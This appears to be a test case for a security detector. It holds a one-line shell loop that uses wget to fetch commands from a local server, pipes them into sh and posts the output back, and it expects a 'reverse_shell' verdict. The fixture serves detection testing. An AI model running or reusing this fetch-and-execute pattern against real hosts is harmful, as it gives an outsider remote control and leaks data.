# about: a loop pipes what wget gets into a shell, and posts the file with what it said
# expect: reverse_shell medium
# needs: python3 wget
proven_http 4514
timeout 6 sh -c 'for n in 1 2 3 4 5; do wget -qO- http://127.0.0.1:4514/n | sh >o 2>&1; wget -qO- --post-file=o http://127.0.0.1:4514/o; sleep 0.2; done' || true
answered
